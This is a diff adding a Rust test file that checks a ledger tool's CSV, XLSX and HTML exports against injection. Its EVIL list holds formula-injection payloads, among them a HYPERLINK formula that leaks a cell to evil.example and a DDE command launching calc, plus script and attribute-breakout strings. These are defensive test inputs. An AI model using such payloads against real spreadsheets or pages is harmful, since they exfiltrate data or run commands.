@@ -1,0 +1,113 @@
+//! What is handed out can't act, comes back exactly, and is whole or not there.
+
+use std::io::{Cursor, Read as _};
+
+use crate::sandbox::Sandbox;
+
+/// What a spreadsheet, a browser or a terminal might run.
+const EVIL: [&str; 14] = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "  =1+1",
+    "\u{3000}=1+1",
+    "＝1+1",
+    "|calc",
+    "a\n=1+1",
+    "'=1+1",
+    "''",
+    "</td><script>alert(1)</script>",
+    "\" onload=\"x",
+];
+
+/// The seed's store; each of its first tasks has one of the texts as content and as a note.
+fn armed() -> Sandbox {
+    let sandbox = Sandbox::with_seed();
+    for (index, text) in EVIL.iter().enumerate() {
+        let file = format!("data/chanjiao-2021-2025/tasks/{:03}.yaml", index + 1);
+        let quoted = serde_json::to_string(text).unwrap();
+        let content = |line: &str| match line.strip_prefix("content: ") {
+            Some(_) => format!("content: {quoted}\n"),
+            None => format!("{line}\n"),
+        };
+        let task: String = sandbox.read(&file).lines().map(content).collect();
+        sandbox.write(&file, format!("{task}\nnotes:\n- date: \"2025-01-01\"\n  text: {quoted}\n"));
+    }
+    sandbox
+}
+
+#[test]
+fn no_line_of_a_csv_cell_acts_and_every_content_comes_back() {
+    let sandbox = armed();
+    sandbox.pjt("export -o ledger.csv").fine();
+    let text = sandbox.read("ledger.csv");
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let column = reader.headers().unwrap().iter().position(|title| title == "任务内容").unwrap();
+    let mut contents = Vec::new();
+    for record in reader.records() {
+        let record = record.unwrap();
+        for line in record.iter().filter(|cell| cell.parse::<f64>().is_err()).flat_map(str::lines) {
+            let seen = line.trim_start_matches(|c: char| c.is_whitespace() || c == '"');
+            assert!(!seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠', '|', '%']), "{line:?}");
+        }
+        contents.push(pjt::model::cell::meant(&record[column]));
+    }
+    assert_eq!(contents[..EVIL.len()], EVIL);
+}
+
+#[test]
+fn a_workbook_holds_strings_only_and_is_the_same_each_time() {
+    let sandbox = armed();
+    sandbox.pjt("export -o one.xlsx --today 2025-01-01").fine();
+    sandbox.pjt("export -o two.xlsx --today 2025-01-01").fine();
+    let one = std::fs::read(sandbox.path("one.xlsx")).unwrap();
+    assert_eq!(one, std::fs::read(sandbox.path("two.xlsx")).unwrap());
+    let mut archive = zip::ZipArchive::new(Cursor::new(one)).unwrap();
+    for index in 0..archive.len() {
+        let mut part = String::new();
+        let mut file = archive.by_index(index).unwrap();
+        file.read_to_string(&mut part).unwrap();
+        for acting in ["<f>", "<f ", "<hyperlink", "TargetMode=\"External\"", "<script"] {
+            assert!(!part.contains(acting), "part {index}: {acting}");
+        }
+    }
+}
+
+#[test]
+fn a_page_has_the_same_elements_whatever_the_text_says() {
+    let page = |sandbox: &Sandbox| {
+        let said = sandbox.pjt("export --format html --today 2025-01-01");
+        let page = scraper::Html::parse_document(said.fine());
+        let all = scraper::Selector::parse("*").unwrap();
+        let shape = |element: scraper::ElementRef<'_>| {
+            let attributes: Vec<&str> = element.value().attrs().map(|(name, _)| name).collect();
+            (element.value().name().to_owned(), attributes.join(" "))
+        };
+        page.select(&all).map(shape).collect::<Vec<_>>()
+    };
+    let armed = armed();
+    let harmless = Sandbox::with_seed();
+    for index in 1..=EVIL.len() {
+        let file = format!("data/chanjiao-2021-2025/tasks/{index:03}.yaml");
+        let notes = "\nnotes:\n- date: \"2025-01-01\"\n  text: x\n";
+        harmless.write(&file, format!("{}{notes}", harmless.read(&file)));
+    }
+    let (one, other) = (page(&armed), page(&harmless));
+    assert_eq!(one, other);
+    let handles = |attributes: &str| attributes.split(' ').any(|attribute| attribute.starts_with("on"));
+    assert!(one.iter().all(|(name, attributes)| name != "script" && !handles(attributes)));
+    let said = armed.pjt("export --format html");
+    assert!(said.stdout.contains("default-src 'none'; style-src 'sha256-"), "a policy without scripts");
+}
+
+#[test]
+fn an_export_that_fails_leaves_the_old_file() {
+    let sandbox = Sandbox::with_seed();
+    sandbox.write("ledger.csv", "old");
+    sandbox.write("data/chanjiao-2021-2025/tasks/014.yaml", "x");
+    assert_eq!(sandbox.pjt("export -o ledger.csv").code, 1);
+    assert_eq!(sandbox.read("ledger.csv"), "old");
+    assert_eq!(sandbox.pjt("export -o no/such/directory/ledger.csv --keep-going").code, 1);
+}
